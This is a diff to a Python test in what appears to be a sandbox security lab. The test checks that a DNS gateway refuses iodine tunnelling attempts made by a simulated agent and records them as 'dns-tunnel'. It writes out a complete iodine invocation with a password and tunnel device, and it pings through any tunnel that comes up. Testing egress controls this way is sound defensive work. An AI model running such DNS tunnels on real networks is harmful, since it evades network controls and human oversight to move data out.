@@ -10,6 +10,7 @@ holds the ``dns-tunnel`` record, with the refusals of the hold counted under the
 
 from __future__ import annotations
 
+import contextlib
 import json
 import time
 import uuid
@@ -61,31 +62,33 @@ def test_iodine_under_an_allowed_wildcard(dns_lab: SecurityLab, qtype: str, base
     since = time.time()
     argv = ["iodine", "-f", "-r", "-T", qtype, "-P", IODINE_PASSWORD, "-d", "dnsc0", GATEWAY_SBX_V4, zone]
     with dns_lab.capture(f"iodine-{qtype}-first") as capture:
-        first = dns_lab.attacker(f"iodine-{qtype}", argv, where="sandbox")
-        _ends(first, daemon)
+        first, moved_first = _run_iodine(dns_lab, f"iodine-{qtype}", argv)
     before = _queries_to_upstream(_result(capture).payload, base)
     with dns_lab.capture(f"iodine-{qtype}-again") as capture:
-        again = dns_lab.attacker(f"iodine-{qtype}-again", argv, where="sandbox")  # the agent simply retries
-        _ends(again, daemon)
+        again, moved_again = _run_iodine(dns_lab, f"iodine-{qtype}-again", argv)  # the agent simply retries
         dig = dns_lab.sandbox(["dig", f"@{GATEWAY_SBX_V4}", "+tries=1", "+time=3", f"www.{zone}", "A"])
-        ping = dns_lab.sandbox(["ping", "-c", "2", "-W", "1", "10.99.0.1"], timeout=10)
     held = _result(capture)
     after = _queries_to_upstream(held.payload, base)
     leaked = sum(len(data) for flow, data in held.payload.items() if flow[1] == NS) if after else 0
     logs = first.log() + again.log()
-    goal = "Connection setup complete" in logs or ping.returncode == 0
+    goal = "Connection setup complete" in logs or moved_first or moved_again
 
     def counted(record: AttemptRecord) -> bool:
         return record.host == base and record.reason == "dns-tunnel" and record.count > 1
 
-    records = dns_lab.records_until(since, lambda rs: any(counted(r) for r in rs))
-    held_record = next(r for r in records if counted(r))
-    note = f"{before} queries before the finding; {held_record.count} refused in the record"
-    report(f"dns/iodine-{qtype}", "dns-tunnel", leaked, goal, held_record.reason, note)
+    try:
+        records = dns_lab.records_until(since, lambda rs: any(counted(r) for r in rs))
+    except AssertionError:  # reported below, then failed on
+        records = []
+    held_record = next((r for r in records if counted(r)), None)
+    refused = held_record.count if held_record is not None else 0
+    note = f"{before} queries before the finding, {after} after; {refused} refused in the record"
+    report(f"dns/iodine-{qtype}", "dns-tunnel", leaked, goal, str(held_record.reason) if held_record else None, note)
     daemon.stop()
     assert after == 0, held.table()
     assert not goal, logs[-3000:]
     assert "status: REFUSED" in dig.stdout, dig.stdout
+    assert held_record is not None
 
 
 def _result(capture: Capture) -> Crossed:
@@ -93,18 +96,23 @@ def _result(capture: Capture) -> Crossed:
     return capture.result
 
 
-def _ends(client: Attacker, daemon: Attacker) -> None:
-    """Wait until iodine gives up (it does once every query is refused); stop it if it has not within the time."""
+def _run_iodine(lab: SecurityLab, name: str, argv: list[str]) -> tuple[Attacker, bool]:
+    """Run iodine until it gives up (it does once every query is refused) or its tunnel is up; if it is up, ping
+    the server's tunnel address through it. Returns iodine and whether payload crossed the tunnel."""
+    client = lab.attacker(name, argv, where="sandbox")
 
-    def ended() -> bool:
-        assert client.process.poll() is not None, f"iodine still trying: {client.log()[-300:]}"
+    def settled() -> bool:
+        up = "Connection setup complete" in client.log()
+        assert up or client.process.poll() is not None, f"iodine still trying: {client.log()[-300:]}"
         return True
 
-    try:
-        eventually(ended, timeout=120.0, interval=0.5)
-    except AssertionError:
-        client.stop()
-    assert "Connection setup complete" not in client.log(), f"{client.log()[-2000:]}\n{daemon.log()[-1000:]}"
+    with contextlib.suppress(AssertionError):  # still probing after two minutes: judged on what crossed meanwhile
+        eventually(settled, timeout=120.0, interval=0.5)
+    moved = False
+    if "Connection setup complete" in client.log():
+        moved = lab.sandbox(["ping", "-c", "3", "-W", "2", "10.99.0.1"], timeout=20).returncode == 0
+    client.stop()
+    return client, moved
 
 
 SLOW = r"""
